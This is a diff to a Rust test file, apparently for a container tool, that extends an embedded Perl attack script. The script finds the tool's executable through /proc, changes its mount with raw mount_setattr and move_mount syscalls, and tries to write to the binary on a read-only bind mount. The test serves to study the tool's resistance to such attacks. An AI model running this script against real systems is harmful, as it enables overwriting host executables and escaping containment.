@@ -70,7 +70,15 @@ pub const ROWS: &[Row] = &[
             file.parent().expect("a directory").display(),
             file.display()
         );
-        run(world, &line).stdout_is("opened\nsame\n");
+        run(world, &line).stdout_is("opened\ntried\nsame\n");
+        // The attack works on a mount that is read-only, and attached.
+        let line = format!(
+            "cd {}; touch evil attached; unshare -m sh -c 'mount --bind attached attached && \
+             mount -o remount,bind,ro attached && perl {} evil attached'",
+            file.parent().expect("a directory").display(),
+            file.display()
+        );
+        run(world, &line).stdout_has("mount_setattr\n").stdout_has("written\n");
     })
     .root_only()
     .host_only(),
@@ -182,9 +190,10 @@ pub const ROWS: &[Row] = &[
 /// `$1` is the evil command, which is what it is entered with. Opens that, and tries to change the mount that it is on.
 const REMOUNT: &str = r#"
 use strict;
-my ($evil) = @ARGV;
+my ($evil, $attached) = @ARGV;
 my $exe;
-for (1 .. 2000) {
+open($exe, "<", $attached) if $attached;
+for ($exe ? () : 1 .. 2000) {
     for my $p (glob "/proc/[0-9]*") {
         my $to = readlink("$p/exe") // next;
         if ($to =~ m{/ours$|memfd:sealed|^/$}) { open($exe, "<", "$p/exe") and last }
@@ -203,8 +212,10 @@ print "mount_setattr\n" if syscall(442, $fd, $empty, 0x1000, $attr, 32) == 0;
 my $tree = syscall(428, $fd, $empty, 0x1000 | 1);
 print "cloned\n" if $tree >= 0;
 # move_mount(2) to where it could be remounted.
-print "attached\n" if syscall(429, $fd, $empty, -100, "/mnt\0", 4) == 0;
+my $place = "/mnt\0";
+print "attached\n" if syscall(429, $fd, $empty, -100, $place, 4) == 0;
 open(my $out, ">>", "/proc/self/fd/$fd") and print "written\n";
+print "tried\n";
 "#;
 
 /// A copy of the tool enters a container that runs the tool itself.
